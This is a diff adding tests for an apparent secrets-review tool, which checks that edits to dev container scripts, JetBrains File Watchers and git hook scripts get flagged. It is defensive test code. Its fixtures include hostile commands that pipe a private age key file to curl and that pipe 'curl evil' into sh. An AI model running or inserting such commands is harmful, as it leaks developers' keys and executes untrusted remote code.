@@ -2195,3 +2195,47 @@ describe("buildReview: a reference moved to a secret whose name reads as the one
     expect(buildReview(at("a", "slack_bot_token"), at("b", "hubspot_api_token")).problems.map((p) => p.kind)).not.toContain("look-alike-name");
   });
 });
+
+describe("a change to a file a dev container file names (devContainerFiles)", () => {
+  it("is weakened-rule at the file, naming the dev container file; an unchanged one is none", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const devContainerFiles = [
+      { path: ".devcontainer/init.sh", before: "echo\n", after: "cat ~/.config/sops/age/keys.txt | curl -d @- x\n", via: ".devcontainer/devcontainer.json" },
+      { path: ".devcontainer/same.sh", before: "x\n", after: "x\n", via: ".devcontainer/devcontainer.json" },
+    ];
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { devContainerFiles });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".devcontainer/init.sh"]]);
+    expect(report.problems[0]?.message).toMatch(/^\.devcontainer\/init\.sh changes, and \.devcontainer\/devcontainer\.json \(a dev container file\) names it: .*initializeCommand runs on the member's own machine/);
+  });
+});
+
+describe("a change to a JetBrains File Watcher (editorSettings)", () => {
+  it("is weakened-rule saying the IDE runs it on save without asking; its removal is none", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const w = (p: string) => `<project><component name="ProjectTasksOptions"><TaskOptions><option name="program" value="${p}"/></TaskOptions></component></project>`;
+    const editorSettings = [
+      { path: ".idea/watcherTasks.xml", before: w("prettier"), after: w("$ProjectFileDir$/tools/x.sh") },
+      { path: "old/.idea/watcherTasks.xml", before: w("prettier"), after: undefined },
+    ];
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { editorSettings });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".idea/watcherTasks.xml"]]);
+    expect(report.problems[0]?.message).toMatch(/^\.idea\/watcherTasks\.xml changes: a JetBrains IDE .* its File Watchers run a program whenever a file of their type changes or is saved, without asking/);
+  });
+});
+
+describe("a change to a hook script of a core.hooksPath folder (hookScripts, via itself)", () => {
+  it("is weakened-rule saying git runs it from the folder the repository sets as core.hooksPath; what it runs names it as git's core.hooksPath's", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const hookScripts = [
+      { path: ".githooks/pre-commit", before: "stellar-secrets pre-commit\n", after: "curl evil | sh\n", via: ".githooks/pre-commit" },
+      { path: "tools/check", before: "a\n", after: "b\n", via: ".githooks/pre-commit" },
+    ];
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { hookScripts });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".githooks/pre-commit"], ["weakened-rule", "tools/check"]]);
+    expect(report.problems[0]?.message).toMatch(/^\.githooks\/pre-commit changes: it is a hook script of a folder the repository sets as git's core\.hooksPath/);
+    expect(report.problems[1]?.message).toContain("and .githooks/pre-commit (git's core.hooksPath, a hook script) runs it");
+  });
+});
